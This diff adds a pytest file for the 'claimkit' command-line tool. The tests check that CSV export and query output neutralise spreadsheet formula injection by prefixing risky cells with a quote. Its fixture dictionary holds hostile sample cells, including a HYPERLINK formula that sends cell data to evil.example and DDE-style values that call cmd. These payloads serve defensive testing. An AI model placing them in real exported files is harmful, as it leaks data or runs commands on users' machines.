@@ -1,0 +1,112 @@
+"""Hostile input, round 5: spreadsheet formulas in CSV, standard input for every claims command,
+an output that is also an input, and what a page's markup costs.
+
+Each case failed before its fix (the test's docstring says how) and passes after.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from claimkit.cli import main
+
+from .test_hostile import A_TEXT, Z_TEXT
+
+#: cell values a spreadsheet runs as formulas (a link that sends data away, a command)
+FORMULAS = {
+    "summary": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "title": "+1+1",
+    "text": "-2+3+cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+}
+
+
+@pytest.fixture(autouse=True)
+def _no_endpoint(monkeypatch: pytest.MonkeyPatch) -> None:
+    for var in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "CLAIMKIT_API_KEY", "CLAIMKIT_BASE_URL",
+                "CLAIMKIT_PRICES", "CLAIMKIT_GAZETTEER", "CLAIMKIT_PLUGINS", "CLAIMKIT_DB"):
+        monkeypatch.delenv(var, raising=False)
+
+
+@pytest.fixture(scope="module")
+def good_claims(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The two articles' records (a, then z)."""
+    d = tmp_path_factory.mktemp("r5")
+    (d / "a.txt").write_text(A_TEXT, encoding="utf-8")
+    (d / "z.txt").write_text(Z_TEXT, encoding="utf-8")
+    result = CliRunner().invoke(main, ["extract", str(d / "a.txt"), str(d / "z.txt"), "--backend", "rules"])
+    assert result.exit_code == 0, result.stderr
+    lines = sorted(result.stdout.splitlines(), key=lambda ln: '"id":"z"' in ln)
+    path = d / "claims.jsonl"
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return path
+
+
+@pytest.fixture(scope="module")
+def formula_claims(good_claims: Path) -> Path:
+    """The records with formulas in the summary, an actor's name and text, and the title."""
+    records = [json.loads(ln) for ln in good_claims.read_text(encoding="utf-8").splitlines()]
+    for rec in records:
+        rec["document"]["title"] = FORMULAS["title"]
+        for claim in rec["claims"]:
+            claim["summary"] = FORMULAS["summary"]
+            claim["actor"][0]["name"] = FORMULAS["name"]
+            claim["actor"][0]["text"] = FORMULAS["tab"]
+    path = good_claims.with_name("formulas.jsonl")
+    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
+    return path
+
+
+def _cells(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _no_formula(rows: list[dict[str, str]]) -> None:
+    assert rows
+    for row in rows:
+        for key, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (key, cell)
+            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (key, cell)
+
+
+def test_spreadsheet_cell() -> None:
+    from claimkit.io import spreadsheet_cell
+
+    for value in FORMULAS.values():
+        assert spreadsheet_cell(value) == "'" + value
+    for kept in (-3, -2.5, "-3", "+4", "-2.5e3", ".5", "Kyiv", "", None, "a=b", "'quoted"):
+        assert spreadsheet_cell(kept) == kept
+
+
+def test_csv_export_and_query_neutralise_formulas(tmp_path: Path, formula_claims: Path) -> None:
+    """Before: ``export --format csv`` and ``query --format csv`` wrote ``=HYPERLINK(...)``,
+    ``@SUM(...)``, ``+1+1`` and a tab before ``=1+1`` as they are: a spreadsheet opening the
+    file runs them. Now each such cell starts with ``'``; JSONL export is unchanged."""
+    pytest.importorskip("sqlalchemy")
+    db = str(tmp_path / "store.db")
+    assert CliRunner().invoke(main, ["import", "--db", db, str(formula_claims)]).exit_code == 0
+    exported = CliRunner().invoke(main, ["export", "--db", db, "--format", "csv"])
+    assert exported.exit_code == 0, exported.stderr
+    rows = _cells(exported.stdout)
+    _no_formula(rows)
+    assert {r["summary"] for r in rows} == {"'" + FORMULAS["summary"]}
+    assert {r["title"] for r in rows} == {"'" + FORMULAS["title"]}
+    queried = CliRunner().invoke(main, ["query", "--db", db, "--format", "csv"])
+    assert queried.exit_code == 0, queried.stderr
+    rows = _cells(queried.stdout)
+    _no_formula(rows)
+    assert any(("'" + FORMULAS["name"]) in r["actors"] or r["actors"].startswith("'") for r in rows), rows
+    lossless = CliRunner().invoke(main, ["export", "--db", db])
+    assert [json.loads(ln) for ln in lossless.stdout.splitlines()] == [
+        json.loads(ln) for ln in formula_claims.read_text(encoding="utf-8").splitlines()]
+    groups = CliRunner().invoke(main, ["query", "--db", db, "--groups", "--format", "csv"])
+    assert groups.exit_code == 0, groups.stderr
+    for row in _cells(groups.stdout):  # numbers stay numbers
+        assert row["sources"].isdigit() and row["n_claims"].isdigit(), row
